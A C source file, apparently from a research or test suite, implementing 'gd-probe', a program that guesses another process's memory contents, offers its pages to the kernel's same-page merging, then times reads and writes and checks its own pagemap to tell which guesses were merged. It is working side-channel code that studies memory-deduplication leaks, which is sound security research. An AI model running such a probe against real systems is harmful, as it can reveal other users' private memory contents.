// SPDX-License-Identifier: GPL-2.0
/*
 * gd-probe: an attacker that learns from its own pages what another process's
 * memory holds: it guesses contents, waits until they may have been merged, and
 * then measures its pages.
 *
 * usage: gd-probe LABEL CPU GUESSES ID ZEROS [mergeable]
 *
 *   GUESSES	so many pages hold what "gd-hold fill R 0 GUESSES seq ID" makes: guessed
 *		right. As many hold noise that nobody else has: guessed wrong. They lie
 *		in one area in random order.
 *   ZEROS	so many pages of zeros beside them
 *   mergeable	all of these are offered to ksmd
 *
 * Prints "ready" and waits for SIGUSR1. Then, on CPU, it looks at each page in
 * three ways, each in a random order of its own, and prints a line for each page:
 *	LABEL right|wrong WRITE READ SHARED
 *   WRITE READ	how long the first write and, before it, a read took (TSC ticks)
 *   SHARED	1 if its own pagemap says that the page is not its alone; that needs
 *		no privilege
 */
#include <sched.h>
#include <signal.h>
#include <sys/random.h>
#include <x86intrin.h>

#include "gd.h"

/* /proc/PID/pagemap */
#define PM_EXCLUSIVE	(1ULL << 56)

/* What is measured lies in shared memory: no scanner touches it. */
struct guess {
	uint64_t write, read;
	bool right, shared;
};

static struct guess *guess;
static size_t *order;		/* the pages in some random order */
static size_t pages;
static char *area;
static uint64_t dice;

static size_t roll(size_t n)
{
	return gd_next(&dice) % n;
}

static void shuffle(void)
{
	size_t i, other, was;

	for (i = pages; i > 1; i--) {
		other = roll(i);
		was = order[i - 1];
		order[i - 1] = order[other];
		order[other] = was;
	}
}

static char *map(size_t n, bool mergeable)
{
	char *p = gd_map_aligned(n * GD_PAGE);

	if (!p || madvise(p, n * GD_PAGE, MADV_NOHUGEPAGE))
		gd_die("gd-probe: map");
	if (mergeable && madvise(p, n * GD_PAGE, MADV_MERGEABLE))
		gd_die("gd-probe: madvise");
	return p;
}

/* The first half of the order is guessed right. */
static void fill(uint64_t id)
{
	size_t i;

	shuffle();
	for (i = 0; i < pages; i++) {
		guess[order[i]].right = i < pages / 2;
		gd_fill(area + order[i] * GD_PAGE, i < pages / 2 ? id + i : gd_next(&dice));
	}
}

static void wait_for_signal(void)
{
	sigset_t set;
	int sig;

	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	sigprocmask(SIG_BLOCK, &set, NULL);
	puts("ready");
	fflush(stdout);
	sigwait(&set, &sig);
}

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		gd_die("gd-probe: CPU %d", cpu);
}

static void look_at_pagemap(void)
{
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
	uint64_t entry;
	size_t i;

	for (i = 0; i < pages; i++) {
		off_t at = ((uintptr_t)area / GD_PAGE + i) * sizeof(entry);

		if (pread(fd, &entry, sizeof(entry), at) != sizeof(entry) || !(entry & GD_PM_PRESENT))
			gd_die("gd-probe: pagemap");
		guess[i].shared = (entry & GD_PM_FILE) || !(entry & PM_EXCLUSIVE);
	}
	close(fd);
}

static inline uint64_t ticks(void)
{
	unsigned int aux;
	uint64_t now;

	_mm_lfence();
	now = __rdtscp(&aux);
	_mm_lfence();
	return now;
}

/* One byte of each page, in a new order. */
static void time_pages(bool write)
{
	volatile char *byte;
	uint64_t start, took;
	size_t i;

	shuffle();
	for (i = 0; i < pages; i++) {
		byte = area + order[i] * GD_PAGE + roll(GD_PAGE);
		start = ticks();
		if (write)
			*byte = i;
		else
			(void)*byte;
		took = ticks() - start;
		if (write)
			guess[order[i]].write = took;
		else
			guess[order[i]].read = took;
	}
}

int main(int argc, char **argv)
{
	size_t i, zeros;
	bool mergeable;

	if (argc < 6)
		gd_die("usage: gd-probe LABEL CPU GUESSES ID ZEROS [mergeable]");
	pages = 2 * strtoull(argv[3], NULL, 0);
	zeros = strtoull(argv[5], NULL, 0);
	mergeable = argc > 6 && !strcmp(argv[6], "mergeable");
	if (getrandom(&dice, sizeof(dice), 0) != sizeof(dice))
		gd_die("gd-probe: getrandom");
	guess = gd_private_alloc(pages * sizeof(*guess));
	order = gd_private_alloc(pages * sizeof(*order));
	for (i = 0; i < pages; i++)
		order[i] = i;
	area = map(pages, mergeable);
	fill(strtoull(argv[4], NULL, 0));
	memset(map(zeros, mergeable), 0, zeros * GD_PAGE);

	wait_for_signal();
	pin(atoi(argv[2]));
	look_at_pagemap();
	time_pages(false);
	time_pages(true);
	for (i = 0; i < pages; i++)
		printf("%s\t%s\t%llu\t%llu\t%d\n", argv[1], guess[i].right ? "right" : "wrong",
		       (unsigned long long)guess[i].write, (unsigned long long)guess[i].read, guess[i].shared);
	return 0;
}
